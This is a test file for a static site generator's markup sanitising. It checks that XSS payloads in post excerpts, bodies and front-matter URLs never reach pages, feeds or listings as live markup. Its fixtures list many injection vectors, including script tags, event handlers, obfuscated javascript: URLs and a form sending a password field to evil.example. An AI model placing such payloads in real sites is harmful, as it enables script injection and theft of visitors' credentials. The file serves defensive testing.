/**
 * No markup gets in where it does not belong (issue #10). Fixture sites with hostile excerpts (front matter and a
 * body's first paragraph), hostile bodies and hostile front-matter URLs are built with the real build script, and
 * every HTML, XML and JSON file of the output is scanned for live markup (tests/helpers/live-markup.ts).
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { createFixtureSite, type FixtureSite, post, tinyJpegName } from '../helpers/fixture-site.ts';
import { findLiveMarkup } from '../helpers/live-markup.ts';

const settings = {
  title: 'Hostile Times',
  url: 'https://hostile.example',
  timeZone: 'UTC',
  authors: { a: { name: 'Ann Author' } },
};

const quoted = (value: string): string => JSON.stringify(value);

/** Front-matter excerpts, each in a post of its own: name → excerpt. */
const hostileExcerpts: Record<string, string> = {
  script: '<script>alert(1)</script>Lead with a script.',
  onerror: 'Lead <img src=x onerror=alert(1)> with an image.',
  'markdown-javascript': '[click](javascript:alert(1)) a markdown link.',
  'mixed-case': '<a href="JaVaScRiPt:alert(1)">click</a> a mixed-case link.',
  'entity-encoded': '<a href="&#106;avascript:alert(1)">click</a> an encoded link.',
  'tab-in-scheme': '<a href="java&#x09;script:alert(1)">click</a> a tab in the scheme.',
  iframe: '<iframe src="https://evil.example/"></iframe>Lead with an iframe.',
  'svg-onload': '<svg onload=alert(1)><circle r=1></svg>Lead with an SVG.',
  style: '<style>body{display:none}</style><b style="color:red">Lead</b> with style.',
  unclosed: '<div><b onclick=alert(1)>Lead with unclosed tags',
  'data-link': '<a href="data:text/html,<script>alert(1)</script>">click</a> a data link.',
  'form-in-excerpt': '<form action="javascript:alert(1)"><button>Go</button></form> Lead with a form.',
};

/** Raw HTML in the opening paragraph of a trusted body, which listings show as the excerpt. */
const hostileOpening = '<img src=x onerror=alert(1)><script>alert(1)</script> Opening <b onmouseover=alert(1)>paragraph</b>.\n\nSecond paragraph.';

/** A body for the sanitised site: hostile markup among ordinary article markup and embeds. */
const hostileBody = [
  'Intro with *emphasis* and [a link](https://example.com/ "Title").',
  '<script>alert("body")</script><style>*{display:none}</style>',
  '<p onmouseover="alert(1)" style="position:fixed;inset:0">Hover</p>',
  '<a href="javascript:alert(1)">js</a> <a href="JAVASCRIPT:alert(1)">JS</a> <a href="&#106;avascript:alert(1)">enc</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="data"> <img src="/x.jpg" onerror="alert(1)" alt="x">',
  '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Video"></iframe>',
  '<iframe src="https://evil.example/embed"></iframe> <iframe src="http://www.youtube-nocookie.com/embed/plain"></iframe> <iframe src="//www.youtube-nocookie.com/embed/relative"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"></form><object data="x.swf"></object><embed src="x.swf">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '## A heading',
  '> A quote',
  '| a | b |\n|:--|--:|\n| 1 | 2 |',
  '```js\ncode("<b>");\n```',
  `![A photo](/assets/images/${tinyJpegName})`,
  '<details><summary>More</summary>Hidden <mark>text</mark></details>',
  'Outro.',
].join('\n\n');

function writeHostilePosts(site: FixtureSite): void {
  let day = 1;
  for (const [name, excerpt] of Object.entries(hostileExcerpts)) {
    site.write(`posts/2025-10-${String(day++).padStart(2, '0')}-excerpt-${name}.md`, post(`title: Excerpt ${name}\ncategories: [News]\nexcerpt: ${quoted(excerpt)}`));
  }
  site.write('posts/2025-10-20-opening.md', post('title: Opening\ncategories: [News]', hostileOpening));
  site.write(
    'posts/2025-10-21-unused-urls.md',
    post('title: Unused URLs\ncategories: [News]\ncanonical_url: "javascript:alert(1)"\nredirect_to: "javascript:alert(2)"\nredirect_from: ["javascript:alert(3)"]'),
  );
  site.write('posts/2025-10-22-ordinary.md', post('title: Ordinary\ncategories: [News]\nexcerpt: "*Key* point with [a link](https://example.com/) and `code`"'));
}

describe('hostile excerpts and a trusted body (the default)', () => {
  let site: FixtureSite;
  let build: ReturnType<FixtureSite['build']>;
  let findings: string[];

  before(async () => {
    site = createFixtureSite(settings);
    writeHostilePosts(site);
    build = site.build();
    findings = build.status === 0 ? await findLiveMarkup(site.out) : [];
  });
  after(() => site.dispose());

  test('builds and says that story bodies are trusted', () => {
    assert.equal(build.status, 0, build.stderr);
    assert.match(build.stdout, /\[broadsheet\] story bodies: raw HTML allowed \(authors trusted; set bodies\.sanitize to sanitise\)/);
  });

  test('raw HTML in a trusted body is live on its own page only: never in listings, feeds or the head', () => {
    const elsewhere = findings.filter((finding) => !finding.startsWith('2025/10/20/opening/index.html:'));
    assert.deepEqual(elsewhere, []);
    // The scanner sees the trusted body, so the empty list above is not an empty scan.
    assert.ok(findings.some((finding) => finding.includes('onerror')), findings.join('\n'));
  });

  test('the trusted body is as written, but its excerpt in listings is text (issue #10)', () => {
    const story = site.read('2025/10/20/opening/index.html');
    assert.ok(story.includes('<img src=x onerror=alert(1)><script>alert(1)</script> Opening'), 'authors are trusted by default');
    assert.ok(story.includes('<meta name="description" content="Opening paragraph."/>'), story);
    assert.ok(site.read('category/news/index.html').includes('<div class="card__excerpt"><p>Opening <b>paragraph</b>.</p></div>'));
  });

  test('a hostile front-matter excerpt keeps only its text in the standfirst and listings', () => {
    const standfirst = (slug: string) => /<div class="story__dek">(.*?)<\/div>/.exec(site.read(`2025/10/${slug}/index.html`))?.[1];
    assert.equal(standfirst('01/excerpt-script'), '<p>Lead with a script.</p>');
    assert.equal(standfirst('02/excerpt-onerror'), '<p>Lead  with an image.</p>');
    assert.equal(standfirst('04/excerpt-mixed-case'), '<p>click a mixed-case link.</p>');
    assert.equal(standfirst('05/excerpt-entity-encoded'), '<p>click an encoded link.</p>');
    assert.equal(standfirst('09/excerpt-style'), '<p><b>Lead</b> with style.</p>');
    assert.equal(standfirst('10/excerpt-unclosed'), '<p><b>Lead with unclosed tags</b></p>');
    assert.ok(site.read('2025/10/01/excerpt-script/index.html').includes('<meta name="description" content="Lead with a script."/>'));
  });

  test('emphasis, links and code in an excerpt survive', () => {
    const expected = '<p><em>Key</em> point with <a href="https://example.com/">a link</a> and <code>code</code></p>';
    assert.ok(site.read('2025/10/22/ordinary/index.html').includes(`<div class="story__dek">${expected}</div>`));
    assert.ok(site.read('category/news/index.html').includes(`<div class="card__excerpt">${expected}</div>`));
  });

  test('canonical_url, redirect_to and redirect_from reach no page', () => {
    for (const file of site.files()) assert.ok(!site.read(file).includes('alert(2)') && !site.read(file).includes('alert(3)'), file);
  });
});

describe('a hostile body with bodies.sanitize on', () => {
  let site: FixtureSite;
  let build: ReturnType<FixtureSite['build']>;
  let findings: string[];

  before(async () => {
    site = createFixtureSite({ ...settings, bodies: { sanitize: true, embedHosts: ['www.youtube-nocookie.com'] }, feeds: { fullText: true, limit: 50 } });
    writeHostilePosts(site);
    site.write('posts/2025-10-23-hostile-body.md', post('title: Hostile body\ncategories: [News]', hostileBody));
    build = site.build();
    findings = build.status === 0 ? await findLiveMarkup(site.out) : [];
  });
  after(() => site.dispose());

  test('builds and says that story bodies are sanitised', () => {
    assert.equal(build.status, 0, build.stderr);
    assert.match(build.stdout, /\[broadsheet\] story bodies: sanitised \(.*iframes only from www\.youtube-nocookie\.com\)/);
  });

  test('no page, feed or JSON file holds live markup', () => {
    assert.deepEqual(findings, []);
  });

  test('scripts, handlers, styles, forms, objects, unsafe URLs and foreign iframes are gone from the page', () => {
    const html = site.read('2025/10/23/hostile-body/index.html');
    const body = html.slice(html.indexOf('<div class="story__body">'), html.indexOf('</article>'));
    for (const gone of ['alert', '<style', 'style="position', '<form', '<input', '<object', '<embed', 'evil.example', 'src="data:', 'embed/plain', 'embed/relative', 'http-equiv']) {
      assert.ok(!body.includes(gone), `${gone} in ${body}`);
    }
  });

  test('ordinary article markup and embeds from the named host survive, and the image pipeline still makes its picture', () => {
    const html = site.read('2025/10/23/hostile-body/index.html');
    assert.ok(html.includes('<a href="https://example.com/" title="Title">a link</a>'), html);
    // Fitted to the column after sanitising (src/markdown/embeds.ts, issue #12): its class and style are the site's.
    assert.ok(html.includes('<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Video" class="embed" style="aspect-ratio: 16 / 9" loading="lazy"></iframe>'), html);
    assert.ok(html.includes('<h2 id="a-heading">A heading</h2>'), html);
    assert.ok(html.includes('<blockquote>\n<p>A quote</p>\n</blockquote>'), html);
    assert.ok(html.includes('<th style="text-align:left">a</th>'), html);
    assert.ok(html.includes('<div class="language-js highlighter-rouge"><div class="highlight"><pre class="highlight" tabindex="0"><code><span class="hljs-title function_">code</span>(<span class="hljs-string">"&lt;b&gt;"</span>);'), html);
    assert.ok(html.includes('<details><summary>More</summary>Hidden <mark>text</mark></details>'), html);
    assert.match(html, /<picture><source type="image\/webp" srcset="\/assets\/images\/[0-9a-f]{32}-2\.webp 2w"/);
  });

  test('the full-text feeds carry the sanitised body', () => {
    const atom = site.read('feed.xml');
    const entry = atom.slice(atom.indexOf('<id>https://hostile.example/2025/10/23/hostile-body/</id>'), atom.indexOf('</entry>', atom.indexOf('hostile-body')));
    assert.ok(entry.includes('<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Video"></iframe>'), entry);
    assert.ok(entry.includes('<h2 id="a-heading">A heading</h2>'), entry);
    assert.ok(!entry.includes('alert(') && !entry.includes('evil.example'), entry);
    const json = JSON.parse(site.read('feed.json')) as { items: Array<{ url: string; content_html?: string }> };
    const item = json.items.find((candidate) => candidate.url.endsWith('/hostile-body/'));
    const content = item?.content_html ?? '';
    assert.ok(content.includes('<h2 id="a-heading">A heading</h2>'), JSON.stringify(item));
    assert.ok(!content.includes('alert('), content);
  });
});

describe('hostile front-matter URLs', () => {
  let site: FixtureSite;
  let build: ReturnType<FixtureSite['build']>;
  const images: Record<string, string> = {
    javascript: 'javascript:alert(1)',
    'javascript-tab': 'java\tscript:alert(1)',
    data: 'data:image/svg+xml,<svg onload=alert(1)>',
    vbscript: 'vbscript:msgbox(1)',
    'protocol-relative': '//evil.example/x.jpg',
    backslashes: '\\\\evil.example\\x.jpg',
    'https-without-slashes': 'https:evil.example/x.jpg',
  };

  before(() => {
    site = createFixtureSite(settings);
    for (const [name, image] of Object.entries(images)) site.write(`posts/2025-10-01-image-${name}.md`, post(`title: Image ${name}\nimage: ${quoted(image)}`));
    site.write('posts/2025-10-02-permalink.md', post('title: Permalink\npermalink: "javascript:alert(1)"'));
    site.write('posts/2025-10-03-fine.md', post(`title: Fine\nimage: assets/images/${tinyJpegName}`));
    build = site.build();
  });
  after(() => site.dispose());

  test('fail the build, every one named with its file and field, and nothing is written', () => {
    assert.equal(build.status, 1, build.stdout);
    const output = build.stdout + build.stderr;
    for (const [name, image] of Object.entries(images)) {
      assert.ok(output.includes(`posts/2025-10-01-image-${name}.md:`) && output.includes(JSON.stringify(image)), `${name}: ${output}`);
    }
    assert.match(output, /posts\/2025-10-01-image-protocol-relative\.md:\d+: `image` is protocol-relative \("\/\/evil\.example\/x\.jpg"\)/);
    assert.match(output, /posts\/2025-10-01-image-javascript\.md:\d+: `image` must be a site-relative path or an http\(s\) URL; found "javascript:alert\(1\)"/);
    assert.match(output, /posts\/2025-10-02-permalink\.md:\d+: `permalink`/);
    assert.equal(site.exists('index.html'), false);
  });
});
